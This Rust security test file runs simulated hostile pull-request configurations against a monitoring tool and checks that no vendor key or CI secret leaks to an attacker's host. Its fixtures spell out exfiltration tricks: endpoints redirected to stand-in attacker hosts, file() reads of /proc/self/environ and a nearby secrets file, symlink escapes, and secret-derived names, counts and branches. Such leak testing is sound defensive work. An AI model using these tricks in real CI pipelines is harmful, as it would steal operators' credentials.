//! Issue 15, item 10: the hostile pull request. The real binary runs what a pull-request job runs
//! (`validate`, `fmt -check`, `plan` in text, Markdown and JSON, `plan -out`, `show`) on
//! configurations that each try one exfiltration path of the issue, while every vendor key and
//! every operator-supplied secret is in the environment. Requests go through recording taps: the
//! Datadog and New Relic stand-ins sit behind taps the operator allows, an allowed "proxy"
//! answers every request with a redirect to the attacker, and the attacker's collector records
//! whatever reaches it.
//!
//! What must hold, over every path: no 8-character window of any key or secret, in any of its
//! forms (as is, upper- and lower-case, reversed, base64, hex, percent-encoded), appears in any
//! output, any file under the workspace, or any request to a host that is not that key's vendor;
//! the attacker's collector receives no byte at all. Positive controls keep the test honest: each
//! vendor tap must see its own key (so the keys really were in use), the leak finder must find a
//! planted leak in each form, and the redaction marker must show where a derived value was used.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine as _;

use crate::support::*;

const DD_API_KEY: &str = "ddk7Q2mX9vR4tL8wZ3nB6yH1jF5cP0sE";
const DD_APP_KEY: &str = "dda4Gh8Kp2Vx7Mq9Rt3Wz6Yb1Nc5Lj0Ds8Fe2Uo";
const NR_KEY: &str = "NRAK-HOSTILE7Q2M9V4T8W3N6Y1J5C0S";
const AWS_KEY_ID: &str = "AKIAZ5W1Q8E4R7T2Y6U3";
const AWS_SECRET: &str = "wJalrXUtnFEMIhostileK7MDENGbPxRfiCYzq81";
const ROUTING_KEY: &str = "R0uT1nGk3y9f8e7d6c5b4a3z2y1x0w9v";
/// The Slack webhook's secret part (its prefix, `https://hooks.slack.com/services/`, is public).
const WEBHOOK_TOKEN: &str = "T0H0S/B1L3/xQ9wE8rT7yU6iO5pA4sD3fG2";

/// Every secret, named, with the vendor host (tap) allowed to receive it, if any.
fn secrets() -> Vec<(&'static str, &'static str)> {
    vec![
        ("DD_API_KEY", DD_API_KEY),
        ("DD_APP_KEY", DD_APP_KEY),
        ("NEW_RELIC_API_KEY", NR_KEY),
        ("AWS_ACCESS_KEY_ID", AWS_KEY_ID),
        ("AWS_SECRET_ACCESS_KEY", AWS_SECRET),
        ("pagerduty_routing_key", ROUTING_KEY),
        ("slack_webhook_url", WEBHOOK_TOKEN),
    ]
}

/// The forms of a secret a configuration could produce or an encoder could emit.
fn forms(secret: &str) -> Vec<(&'static str, String)> {
    let pct: String = secret
        .bytes()
        .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
        .collect();
    vec![
        ("as is", secret.to_string()),
        ("upper-case", secret.to_uppercase()),
        ("lower-case", secret.to_lowercase()),
        ("reversed", secret.chars().rev().collect()),
        ("base64", base64::engine::general_purpose::STANDARD.encode(secret)),
        ("hex", hex::encode(secret)),
        ("percent-encoded", pct),
    ]
}

const WINDOW: usize = 8;

/// Every (secret, form, window) of `secrets` found in `hay`. Windows of base64 and hex skip the
/// first and last few characters, whose encoding depends on neighbours.
fn leaks(hay: &str, secrets: &[(&'static str, &'static str)]) -> Vec<String> {
    let mut found = Vec::new();
    for (name, secret) in secrets {
        for (form, text) in forms(secret) {
            let bytes = text.as_bytes();
            for start in 0..=bytes.len().saturating_sub(WINDOW) {
                let w = &text[start..start + WINDOW];
                if let Some(at) = hay.find(w) {
                    let (mut a, mut b) = (at.saturating_sub(60), (at + 60).min(hay.len()));
                    while !hay.is_char_boundary(a) {
                        a -= 1;
                    }
                    while !hay.is_char_boundary(b) {
                        b += 1;
                    }
                    found.push(format!("{name} ({form}): `{w}` in …{}…", &hay[a..b]));
                    break;
                }
            }
        }
    }
    found
}

/// A loopback listener that records every byte clients send it. It either forwards each
/// connection to `upstream` (a vendor stand-in behind a tap) or answers each request with a fixed
/// response (the attacker's collector, an allowed proxy that redirects).
struct Tap {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<u8>>>,
}

impl Tap {
    fn start(upstream: Option<SocketAddr>, response: String) -> Tap {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind tap");
        let addr = listener.local_addr().expect("tap addr");
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(client) = conn else { continue };
                let log = log.clone();
                let response = response.clone();
                std::thread::spawn(move || match upstream {
                    Some(up) => forward(client, up, &log),
                    None => answer(client, &response, &log),
                });
            }
        });
        Tap { addr, seen }
    }

    fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned()
    }

    fn len(&self) -> usize {
        self.seen.lock().unwrap().len()
    }
}

fn forward(mut client: TcpStream, upstream: SocketAddr, log: &Mutex<Vec<u8>>) {
    let Ok(mut up) = TcpStream::connect(upstream) else { return };
    let (Ok(mut client_w), Ok(mut up_r)) = (client.try_clone(), up.try_clone()) else { return };
    let back = std::thread::spawn(move || {
        let _ = std::io::copy(&mut up_r, &mut client_w);
        let _ = client_w.shutdown(std::net::Shutdown::Both);
    });
    let mut buf = [0u8; 16 * 1024];
    loop {
        match client.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => {
                log.lock().unwrap().extend_from_slice(&buf[..n]);
                if up.write_all(&buf[..n]).is_err() {
                    break;
                }
            }
        }
    }
    let _ = up.shutdown(std::net::Shutdown::Write);
    let _ = back.join();
}

/// Reads one request (headers and a `Content-Length` body), records it, answers, closes.
fn answer(mut client: TcpStream, response: &str, log: &Mutex<Vec<u8>>) {
    let _ = client.set_read_timeout(Some(Duration::from_secs(5)));
    let mut req = Vec::new();
    let mut buf = [0u8; 16 * 1024];
    loop {
        match client.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => req.extend_from_slice(&buf[..n]),
        }
        let text = String::from_utf8_lossy(&req).to_ascii_lowercase();
        if let Some(end) = text.find("\r\n\r\n") {
            let length = text[..end]
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok())
                .unwrap_or(0);
            if req.len() >= end + 4 + length {
                break;
            }
        }
    }
    log.lock().unwrap().extend_from_slice(&req);
    let _ = client.write_all(response.as_bytes());
}

/// One attack: files written into (or linked from) the configuration directory on top of the
/// base configuration, and what the plan should do.
struct Attack {
    name: &'static str,
    files: Vec<(String, Entry)>,
    expect: Expect,
    /// Strings the attack would reveal a secret through (a branch chosen by it, say) that must
    /// not appear either.
    hidden: Vec<&'static str>,
}

enum Entry {
    Text(String),
    Link(PathBuf),
}

enum Expect {
    /// `plan` exits 1 with this in its error.
    Refused(&'static str),
    /// `plan` succeeds (exit 0 or 2) and shows the redaction marker.
    Masked,
    /// `plan` succeeds (exit 0 or 2) and its output holds this.
    Planned(String),
}

fn text(name: &str, body: &str) -> (String, Entry) {
    (name.to_string(), Entry::Text(body.to_string()))
}

fn link(name: &str, target: &Path) -> (String, Entry) {
    (name.to_string(), Entry::Link(target.to_path_buf()))
}

/// The configuration a pull request starts from: both vendors through their taps, and the
/// routing key's `sensitive = true` already deleted by the pull request.
const BASE: &str = r#"variable "datadog_api_url" {
  type = string
}

variable "newrelic_url" {
  type = string
}

variable "pagerduty_routing_key" {
  type      = string
  sensitive = false
}

variable "slack_webhook_url" {
  type = string
}

provider "datadog" {
  api_url = var.datadog_api_url
}

provider "newrelic" {
  api_url = var.newrelic_url
}

resource "newrelic_alert_policy" "base" {
  name               = "Hostile base"
  incidentPreference = "PER_POLICY"
}

resource "datadog_monitor" "base" {
  name    = "hostile base"
  type    = "metric alert"
  query   = "avg(last_5m):avg:system.load.1{host:h1} > 90"
  message = "load is high @ops@example.com"
  options {
    thresholds {
      critical = 90
    }
  }
}
"#;

/// A Datadog monitor whose `message` (and optionally more attributes) is `message`.
fn monitor(name: &str, message: &str, extra: &str) -> String {
    format!(
        r#"
resource "datadog_monitor" "{name}" {{
  name    = "leak {name}"
  type    = "metric alert"
  query   = "avg(last_5m):avg:system.load.1{{host:h2}} > 90"
  message = {message}
  {extra}
  options {{
    thresholds {{
      critical = 90
    }}
  }}
}}
"#
    )
}

fn attacks(evil: &str, redirect: &str, dd: &str, outside: &Path) -> Vec<Attack> {
    let environ = PathBuf::from("/proc/self/environ");
    let outside_s = outside.display().to_string();
    let replace = |from: &str, to: &str| text("main.hcl", &BASE.replace(from, to));
    let dd_url = "api_url = var.datadog_api_url";
    let nr_url = "api_url = var.newrelic_url";
    let r = "var.pagerduty_routing_key";
    vec![
        // Item 2: endpoints.
        Attack {
            name: "Datadog api_url at the attacker's host",
            files: vec![replace(dd_url, &format!("api_url = \"{evil}\""))],
            expect: Expect::Refused("WATCHKEEP_ALLOW_ENDPOINTS"),
            hidden: vec![],
        },
        Attack {
            name: "Datadog api_url over https elsewhere",
            files: vec![replace(dd_url, "api_url = \"https://collector.evil.example\"")],
            expect: Expect::Refused("not one of Datadog's own endpoints"),
            hidden: vec![],
        },
        Attack {
            name: "Datadog api_url with user info naming an allowed host",
            files: vec![replace(
                dd_url,
                &format!("api_url = \"http://api.datadoghq.com@{}\"", evil.trim_start_matches("http://")),
            )],
            expect: Expect::Refused("must not contain credentials"),
            hidden: vec![],
        },
        Attack {
            name: "Datadog api_url with a backslash before an official domain",
            files: vec![replace(dd_url, "api_url = \"https://collector.evil.example\\\\.datadoghq.com\"")],
            expect: Expect::Refused("scheme, host and port"),
            hidden: vec![],
        },
        Attack {
            name: "Datadog site of the attacker",
            files: vec![replace(dd_url, "site = \"evil.example\"")],
            expect: Expect::Refused("evil.example"),
            hidden: vec![],
        },
        Attack {
            name: "api_url from a *.auto.wkvars file in the pull request",
            files: vec![text("evil.auto.wkvars", &format!("datadog_api_url = \"{evil}\"\n"))],
            // The operator's environment beats files of the configuration.
            expect: Expect::Planned(format!("Endpoints: datadog {dd}, newrelic")),
            hidden: vec![],
        },
        Attack {
            name: "New Relic api_url at the attacker's host",
            files: vec![replace(nr_url, &format!("api_url = \"{evil}/graphql\""))],
            expect: Expect::Refused("WATCHKEEP_ALLOW_ENDPOINTS"),
            hidden: vec![],
        },
        Attack {
            name: "CloudWatch endpoint_url at the attacker's host",
            files: vec![text(
                "aws.hcl",
                &format!(
                    "provider \"cloudwatch\" {{\n  region       = \"us-east-1\"\n  endpoint_url = \"{evil}\"\n}}\n\
                     resource \"cloudwatch_metric_alarm\" \"a\" {{\n  AlarmName          = \"leak\"\n  \
                     MetricName         = \"CPUUtilization\"\n  Namespace          = \"AWS/EC2\"\n  \
                     Statistic          = \"Average\"\n  Period             = 300\n  EvaluationPeriods  = 1\n  \
                     Threshold          = 90\n  ComparisonOperator = \"GreaterThanThreshold\"\n}}\n"
                ),
            )],
            expect: Expect::Refused("WATCHKEEP_ALLOW_ENDPOINTS"),
            hidden: vec![],
        },
        Attack {
            name: "state \"s3\" endpoint_url at the attacker's host",
            files: vec![text(
                "state.hcl",
                &format!(
                    "watchkeep {{\n  state \"s3\" {{\n    bucket         = \"wk-state\"\n    key            = \"pr/state.json\"\n    \
                     region         = \"us-east-1\"\n    endpoint_url   = \"{evil}\"\n    force_path_style = true\n  }}\n}}\n"
                ),
            )],
            expect: Expect::Refused("WATCHKEEP_ALLOW_ENDPOINTS"),
            hidden: vec![],
        },
        Attack {
            name: "an allowed Datadog endpoint redirecting to the attacker",
            files: vec![replace(dd_url, &format!("api_url = \"{redirect}\""))],
            expect: Expect::Refused("does not follow"),
            hidden: vec![],
        },
        Attack {
            name: "an allowed New Relic endpoint redirecting to the attacker",
            files: vec![replace(nr_url, &format!("api_url = \"{redirect}/graphql\""))],
            expect: Expect::Refused("does not follow"),
            hidden: vec![],
        },
        // Item 3: files.
        Attack {
            name: "file(\"/proc/self/environ\") in a message",
            files: vec![text("leak.hcl", &monitor("environ", "file(\"/proc/self/environ\")", ""))],
            expect: Expect::Refused("/proc/self/environ"),
            hidden: vec![],
        },
        Attack {
            name: "file() of the operator's secrets beside the checkout",
            files: vec![text("leak.hcl", &monitor("dotdot", "file(\"../ci-secrets.env\")", ""))],
            expect: Expect::Refused("ci-secrets.env"),
            hidden: vec![],
        },
        Attack {
            name: "file() by absolute path",
            files: vec![text("leak.hcl", &monitor("absolute", &format!("file(\"{outside_s}\")"), ""))],
            expect: Expect::Refused("ci-secrets.env"),
            hidden: vec![],
        },
        Attack {
            name: "file() of a symlink inside pointing outside",
            files: vec![
                link("notes.txt", outside),
                text("leak.hcl", &monitor("symlinked", "file(\"notes.txt\")", "")),
            ],
            expect: Expect::Refused("notes.txt"),
            hidden: vec![],
        },
        Attack {
            name: "a *.hcl symlink to /proc/self/environ",
            files: vec![link("leak.hcl", &environ)],
            expect: Expect::Refused("leak.hcl"),
            hidden: vec![],
        },
        Attack {
            name: "a *.auto.wkvars symlink to /proc/self/environ",
            files: vec![link("leak.auto.wkvars", &environ)],
            expect: Expect::Refused("leak.auto.wkvars"),
            hidden: vec![],
        },
        Attack {
            name: "a *.hcl symlink to the operator's secrets",
            files: vec![link("leak.hcl", outside)],
            expect: Expect::Refused("leak.hcl"),
            hidden: vec![],
        },
        Attack {
            name: "an inventory source linked to /proc/self/environ",
            files: vec![
                link("hosts.csv", &environ),
                text("inv.hcl", "inventory \"hosts\" {\n  source = \"hosts.csv\"\n}\n"),
            ],
            expect: Expect::Refused("hosts.csv"),
            hidden: vec![],
        },
        Attack {
            name: "an inventory source outside the configuration",
            files: vec![text("inv.hcl", &format!("inventory \"hosts\" {{\n  source = \"{outside_s}\"\n}}\n"))],
            expect: Expect::Refused("ci-secrets.env"),
            hidden: vec![],
        },
        // Item 4: values derived from operator-supplied secrets (one marked public by the PR).
        Attack {
            name: "derived strings in messages, names, tags and keys",
            files: vec![
                text(
                    "leak.hcl",
                    &(monitor(
                        "derived",
                        &format!(
                            "\"${{upper({r})}} ${{replace({r}, \"k\", \"K\")}} ${{substr({r}, 3, 12)}} \
                             ${{join(\"-\", split(\"9\", {r}))}} ${{join(\"\", reverse(split(\"\", {r})))}} \
                             ${{format(\"%s!\", lower(var.slack_webhook_url))}} ${{jsonencode({{ k = {r} }})}} \
                             ${{title(trimprefix(var.slack_webhook_url, \"https://\"))}}\""
                        ),
                        &format!(
                            "tags = concat([for c in split(\"\", {r}) : \"c:${{c}}\"], keys({{ for p in split(\"9\", {r}) : \"k-${{p}}\" => 1 }}))"
                        ),
                    ) + &monitor(
                        "templated",
                        "local.heredoc",
                        "",
                    ) + &format!(
                        "locals {{\n  heredoc = <<-EOT\n    key ${{lower({r})}}\n    EOT\n}}\n\
                         module \"relay\" {{\n  source = \"./relay\"\n  value  = {r}\n}}\n"
                    )),
                ),
                text(
                    "relay/main.hcl",
                    &(String::from("variable \"value\" {\n  type = string\n}\n")
                        + &monitor("relayed", "\"relayed ${upper(var.value)}\"", "")),
                ),
            ],
            expect: Expect::Masked,
            hidden: vec![],
        },
        Attack {
            name: "a name chosen by a secret's first character",
            files: vec![text(
                "leak.hcl",
                &(monitor("branch", &format!("substr({r}, 0, 1) == \"R\" ? \"first-is-R\" : \"first-not-R\""), "")
                    + &monitor(
                        "lookup",
                        &format!("lookup(local.table, substr({r}, 1, 1), \"none\")"),
                        &format!("tags = [local.table[substr({r}, 2, 1)]]"),
                    )
                    + "locals {\n  table = { \"0\" = \"second-is-zero\", u = \"third-is-u\" }\n}\n"),
            )],
            expect: Expect::Masked,
            hidden: vec!["first-is-R", "first-not-R", "second-is-zero", "third-is-u"],
        },
        Attack {
            name: "thresholds computed from a secret's characters",
            files: vec![text(
                "leak.hcl",
                &monitor("numbers", "\"n\"", "").replace(
                    "critical = 90",
                    &format!("critical = tonumber(substr({r}, 1, 1)) * 10 + 80"),
                ),
            )],
            expect: Expect::Refused("number or boolean is computed from a sensitive value"),
            hidden: vec![],
        },
        Attack {
            name: "a boolean computed from a secret",
            files: vec![text(
                "leak.hcl",
                &monitor("flag", "\"b\"", &format!("priority = substr({r}, 0, 1) == \"R\" ? 1 : 5")),
            )],
            expect: Expect::Refused("number or boolean is computed from a sensitive value"),
            hidden: vec![],
        },
        Attack {
            name: "count computed from a secret",
            files: vec![text(
                "leak.hcl",
                &monitor("counted", "\"c\"", &format!("count = length(split(\"9\", {r}))")),
            )],
            expect: Expect::Refused("number or boolean is computed from a sensitive value"),
            hidden: vec![],
        },
        Attack {
            name: "for_each keys computed from a secret",
            files: vec![text(
                "leak.hcl",
                &monitor("keyed", "\"k ${each.key}\"", &format!("for_each = toset(split(\"9\", {r}))")),
            )],
            expect: Expect::Refused("`for_each` key is a sensitive value"),
            hidden: vec![],
        },
        Attack {
            name: "an error message quoting a derived secret",
            files: vec![text("leak.hcl", &monitor("failing", &format!("tonumber(upper({r}))"), ""))],
            expect: Expect::Refused("not shown"),
            hidden: vec![],
        },
        Attack {
            name: "a variable type the secret cannot convert to",
            files: vec![replace(
                "variable \"pagerduty_routing_key\" {\n  type      = string",
                "variable \"pagerduty_routing_key\" {\n  type      = number",
            )],
            expect: Expect::Refused("pagerduty_routing_key"),
            hidden: vec![],
        },
        Attack {
            name: "a variable typed as a list, parsing the secret as HCL",
            files: vec![replace(
                "variable \"slack_webhook_url\" {\n  type = string",
                "variable \"slack_webhook_url\" {\n  type = list(string)",
            )],
            expect: Expect::Refused("slack_webhook_url"),
            hidden: vec![],
        },
    ]
}

#[test]
fn the_leak_finder_finds_a_planted_leak_in_every_form() {
    for (name, secret) in secrets() {
        for (form, shown) in forms(secret) {
            let hay = format!("plan: message = \"x{shown}y\"");
            assert!(!leaks(&hay, &secrets()).is_empty(), "{name} ({form}) not found in {hay}");
            // One window of eight is enough.
            let part = &shown[shown.len() / 2 - 4..shown.len() / 2 + 4];
            assert!(!leaks(part, &[(name, secret)]).is_empty(), "{name} ({form}): `{part}`");
        }
    }
    assert!(leaks("plan: 1 to add, (sensitive:0a1b2c3d4e5f)", &secrets()).is_empty());
}

#[test]
fn a_hostile_pull_request_leaks_no_key_byte_on_any_path() {
    let nr = newrelic();
    let dd_tap = Tap::start(Some(standin().addr()), String::new());
    let nr_tap = Tap::start(Some(nr.addr()), String::new());
    let evil = Tap::start(None, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}".into());
    let redirect = Tap::start(
        None,
        format!(
            "HTTP/1.1 307 Temporary Redirect\r\nLocation: {}/collect\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            evil.url()
        ),
    );
    let account = nr.account_id(NR_KEY).to_string();

    let mut ws = Workspace::new("hostile-pr");
    ws.api_key = DD_API_KEY.to_string();
    let webhook = format!("https://hooks.slack.com/services/{WEBHOOK_TOKEN}");
    // The operator's environment: every key, and only the taps (and the proxy) allowed.
    let ws = ws
        .env("DD_APP_KEY", DD_APP_KEY)
        .env("NEW_RELIC_API_KEY", NR_KEY)
        .env("NEW_RELIC_ACCOUNT_ID", &account)
        .env("AWS_ACCESS_KEY_ID", AWS_KEY_ID)
        .env("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
        .env("WATCHKEEP_VAR_datadog_api_url", &dd_tap.url())
        .env("WATCHKEEP_VAR_newrelic_url", &format!("{}/graphql", nr_tap.url()))
        .env("WATCHKEEP_VAR_pagerduty_routing_key", ROUTING_KEY)
        .env("WATCHKEEP_VAR_slack_webhook_url", &webhook)
        .env("WATCHKEEP_ALLOW_ENDPOINTS", &format!("{},{},{}", dd_tap.url(), nr_tap.url(), redirect.url()));
    // The operator's secrets file beside the checkout, as CI systems often leave one.
    let outside = ws.path().join("ci-secrets.env");
    let mut env_file = String::new();
    for (name, value) in secrets() {
        env_file.push_str(&format!("{name}={value}\n"));
    }
    std::fs::write(&outside, env_file).unwrap();

    let mut report = Vec::new();
    let mut total_bytes = 0usize;
    let attacks = attacks(&evil.url(), &redirect.url(), &dd_tap.url(), &outside);
    let count = attacks.len();
    for (i, attack) in attacks.into_iter().enumerate() {
        let cfg = ws.path().join(format!("pr-{i:02}"));
        std::fs::create_dir_all(&cfg).unwrap();
        std::fs::write(cfg.join("main.hcl"), BASE).unwrap();
        for (name, entry) in &attack.files {
            let p = cfg.join(name);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            let _ = std::fs::remove_file(&p);
            match entry {
                Entry::Text(t) => std::fs::write(&p, t).unwrap(),
                Entry::Link(target) => std::os::unix::fs::symlink(target, &p).unwrap(),
            }
        }

        let ours: Vec<PathBuf> = std::iter::once(cfg.join("main.hcl"))
            .chain(attack.files.iter().map(|(n, _)| cfg.join(n)))
            .collect();
        // Everything a reader of the job sees; `planned` is the plan's own output (validate and
        // fmt may quote the configuration, which holds the attack's literals but no secret).
        let mut seen = String::new();
        let mut planned = String::new();
        let mut codes = Vec::new();
        for args in [
            &["validate"][..],
            &["fmt", "-check"],
            &["plan"],
            &["plan", "--format", "markdown"],
            &["plan", "--json", "-out", "pr.wkplan"],
            &["show", "pr.wkplan"],
            &["show", "--json", "pr.wkplan"],
        ] {
            if args[0] == "show" && !cfg.join("pr.wkplan").exists() {
                continue;
            }
            let (code, stdout, stderr) = run_bounded(&ws, &cfg, args);
            let out = stdout + &stderr;
            codes.push(code);
            if args == ["plan"] {
                match &attack.expect {
                    Expect::Refused(needle) => assert!(
                        code == 1 && out.contains(needle),
                        "{}: plan should be refused with `{needle}` (exit {code}):\n{out}",
                        attack.name
                    ),
                    Expect::Masked => assert!(
                        (code == 0 || code == 2) && out.contains("(sensitive:"),
                        "{}: plan should succeed with values masked (exit {code}):\n{out}",
                        attack.name
                    ),
                    Expect::Planned(needle) => assert!(
                        (code == 0 || code == 2) && out.contains(needle.as_str()),
                        "{}: plan should succeed showing `{needle}` (exit {code}):\n{out}",
                        attack.name
                    ),
                }
            }
            assert!(!out.contains("panicked"), "{}: {args:?} panicked:\n{out}", attack.name);
            if args[0] != "validate" && args[0] != "fmt" {
                planned.push_str(&out);
            }
            seen.push_str(&out);
        }
        let files = written_text(&cfg, &ours);
        planned.push_str(&files);
        seen.push_str(&files);
        total_bytes += seen.len();
        let mut found = leaks(&seen, &secrets());
        for h in &attack.hidden {
            if planned.contains(h) {
                found.push(format!("`{h}` (chosen by a secret)"));
            }
        }
        assert!(found.is_empty(), "{}: leaked {found:?}", attack.name);
        assert_eq!(evil.len(), 0, "{}: the attacker's host received {:?}", attack.name, evil.text());
        report.push(format!("  {:<62} exits {codes:?}: 0 key windows", attack.name));
    }

    // Requests: each vendor saw its own keys (the positive control) and no other secret.
    let dd_seen = dd_tap.text();
    let nr_seen = nr_tap.text();
    assert!(dd_seen.contains(DD_API_KEY) && dd_seen.contains(DD_APP_KEY), "the Datadog tap saw no key");
    assert!(nr_seen.contains(NR_KEY), "the New Relic tap saw no key");
    let not = |allowed: &[&str]| -> Vec<(&'static str, &'static str)> {
        secrets().into_iter().filter(|(n, _)| !allowed.contains(n)).collect()
    };
    // The routing key and webhook are the operator's to send to Datadog in monitors' messages;
    // only the other vendors' keys must never reach it.
    let dd_leaks =
        leaks(&dd_seen, &not(&["DD_API_KEY", "DD_APP_KEY", "pagerduty_routing_key", "slack_webhook_url"]));
    assert!(dd_leaks.is_empty(), "the Datadog stand-in received {dd_leaks:?}");
    let nr_leaks =
        leaks(&nr_seen, &not(&["NEW_RELIC_API_KEY", "pagerduty_routing_key", "slack_webhook_url"]));
    assert!(nr_leaks.is_empty(), "the New Relic stand-in received {nr_leaks:?}");
    // The redirecting proxy is the operator's (allowed) and got the keys; it is where they stop.
    assert!(redirect.len() > 0, "no request reached the redirecting endpoint");
    assert_eq!(evil.len(), 0, "the attacker's host received {:?}", evil.text());

    println!(
        "hostile pull request: {count} attacks, {total_bytes} bytes of output and files, {} + {} bytes \
         to the vendors, {} to the redirecting proxy, 0 to the attacker; 0 windows of {WINDOW} \
         characters of any of {} secrets in any of {} forms\n{}",
        dd_seen.len(),
        nr_seen.len(),
        redirect.len(),
        secrets().len(),
        forms("x").len(),
        report.join("\n")
    );
}
